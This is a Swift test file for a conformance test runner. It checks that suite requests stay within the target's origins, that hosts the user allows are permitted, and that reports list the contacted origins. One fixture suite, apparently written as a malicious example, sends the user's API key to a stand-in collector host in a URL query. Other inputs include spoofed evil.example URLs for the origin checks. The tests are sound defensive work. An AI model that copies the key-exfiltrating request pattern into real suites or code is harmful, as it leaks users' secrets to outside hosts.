import ConformCore
import ConformReport
import ConformRunner
import Foundation
import Synchronization
import Testing

/// A suite cannot send the user's variables anywhere but the target: an absolute URL outside the target's origins
/// (and the hosts the user allowed) is refused before it is sent, the run cannot conform, and every report names
/// the origins that were contacted.
@Suite struct OriginConfinementRunTests {
    /// Answers everything 200 and remembers the URLs it got.
    final class Recorder: Transport {
        let urls = Mutex<[String]>([])
        func send(_ request: HTTPRequest) async throws -> HTTPResponse {
            urls.withLock { $0.append(request.url) }
            if request.path.hasSuffix("/baseurl") { return .json(200, ["baseUrl": "https://eu.push.example"]) }
            return .json(200, ["ok": true])
        }
    }

    static let exfiltrating = """
        suite: exfil
        title: Sends the API key elsewhere
        step: 1-registration
        vars:
          apiKey: public-default
          collector: "https://collector.example:8443"
        steps:
          - name: an honest request
            request: {method: GET, url: "{{ mobile }}/mobile/1/ok"}
            expect: {status: 200}
          - name: the key, sent to a host of the suite's own
            request: {method: GET, url: "{{ collector }}/c?k={{ apiKey }}"}
            expect: {status: 200}
        """

    func plan(_ allowed: [String] = [], overrides: [String: String] = [:]) throws -> RunPlan {
        var plan = RunPlan(
            suites: [try suite(Self.exfiltrating)], overrides: ["apiKey": "secret-key"].merging(overrides) { $1 },
            targetDefaults: ["mobile": "http://127.0.0.1:8080", "backend": "http://127.0.0.1:8080"])
        plan.allowedHosts = allowed
        return plan
    }

    @Test func aURLOutsideTheTargetIsNeverSent() async throws {
        let transport = Recorder()
        let result = await Runner(transport: transport).run(try plan())
        #expect(transport.urls.withLock { $0 } == ["http://127.0.0.1:8080/mobile/1/ok"])
        let refused = try #require(result.steps.last)
        #expect(refused.verdict == .error)
        #expect(refused.errors.first?.kind == .outsideTarget)
        #expect(refused.errors.first?.fields["origin"] == "https://collector.example:8443")
        #expect(refused.error?.contains("--allow-host collector.example:8443") == true)
        #expect(result.exitCode == 2)
        #expect(result.contactedOrigins == ["http://127.0.0.1:8080"])
    }

    @Test(arguments: [["collector.example"], ["collector.example:8443"], ["COLLECTOR.example"]])
    func aHostTheUserAllowsIsSentTo(allowed: [String]) async throws {
        let transport = Recorder()
        let result = await Runner(transport: transport).run(try plan(allowed.map { $0.lowercased() }))
        #expect(transport.urls.withLock { $0 }.count == 2)
        #expect(result.exitCode == 0)
        #expect(result.contactedOrigins == ["http://127.0.0.1:8080", "https://collector.example:8443"])
    }

    @Test func theUsersValueForABaseIsAllowedButASuitesDefaultIsNot() async throws {
        let transport = Recorder()
        // The user points 'collector' elsewhere: not a base name, so still refused.
        let refused = await Runner(transport: transport).run(try plan(overrides: ["collector": "http://127.0.0.1:9"]))
        #expect(refused.exitCode == 2)
        // A suite that declares a base name of its own: its default does not widen where requests may go, but
        // the user's value for it does.
        let declaring = Self.exfiltrating.replacingOccurrences(
            of: "  collector:", with: "  mobile: \"https://suite-default.example\"\n  collector:")
        var own = try plan()
        own.suites = [try suite(declaring)]
        let ownDefault = await Runner(transport: transport).run(own)
        #expect(ownDefault.steps.first?.errors.first?.kind == .outsideTarget)
        var second = try plan(overrides: ["mobile": "http://127.0.0.1:9090"])
        second.suites = [try suite(declaring.replacingOccurrences(of: "{{ collector }}", with: "{{ mobile }}"))]
        let allowed = await Runner(transport: transport).run(second)
        #expect(allowed.exitCode == 0)
        #expect(allowed.contactedOrigins == ["http://127.0.0.1:9090"])
    }

    @Test func everyReportNamesTheContactedOrigins() async throws {
        let result = await Runner(transport: Recorder()).run(try plan(["collector.example"]))
        let json = JSONReporter(sink: MemorySink()).render(result).serialized(.pretty)
        #expect(json.contains("\"origins\""))
        #expect(json.contains("https://collector.example:8443"))
        #expect(
            JUnitReporter(sink: MemorySink(), deterministic: true).render(result).contains(
                "<property name=\"origins\" value=\"http://127.0.0.1:8080 https://collector.example:8443\"/>"))
        #expect(HTMLReporter(sink: MemorySink(), deterministic: true).render(result).contains("Requests went to"))
        let read = try RunReport.read(Data(json.utf8), source: "r.json")
        #expect(read.result.contactedOrigins == result.contactedOrigins)
    }

    @Test func originPolicyNormalizes() {
        let policy = OriginPolicy(bases: ["HTTP://Up:80/base", "https://x.example", ""], allowedHosts: ["h.example"])
        #expect(policy.permits("http://up/mobile/1/x"))
        #expect(policy.permits("https://x.example:443/a"))
        #expect(policy.permits("http://h.example:1234/a"))
        #expect(policy.permits("/origin-form"))
        #expect(!policy.permits("http://up:8080/a"))
        #expect(!policy.permits("https://up/a"))
        #expect(!policy.permits("http://x.example.evil/a"))
        #expect(!policy.permits("http://up@evil.example/a"))
        #expect(!policy.permits("ftp://up/a"))
    }

    /// A base URL the implementation hands out (M12) may be followed: the implementation sends its clients there.
    @Test func anOriginTheImplementationHandsOutMayBeFollowed() async throws {
        let transport = Recorder()
        var plan = try plan()
        plan.suites = [
            try suite(
                """
                suite: base-url
                title: Follows the base URL the implementation gives
                step: 1-registration
                steps:
                  - name: ask for the base URL
                    request: {method: GET, url: "{{ mobile }}/mobile/1/baseurl"}
                    expect: {status: 200}
                    capture: {baseUrl: $.baseUrl}
                  - name: use it
                    request: {method: GET, url: "{{ baseUrl }}/mobile/1/ok"}
                    expect: {status: 200}
                """)
        ]
        let result = await Runner(transport: transport).run(plan)
        #expect(result.exitCode == 0)
        #expect(transport.urls.withLock { $0 }.last == "https://eu.push.example/mobile/1/ok")
        #expect(result.contactedOrigins == ["http://127.0.0.1:8080", "https://eu.push.example"])
    }
}
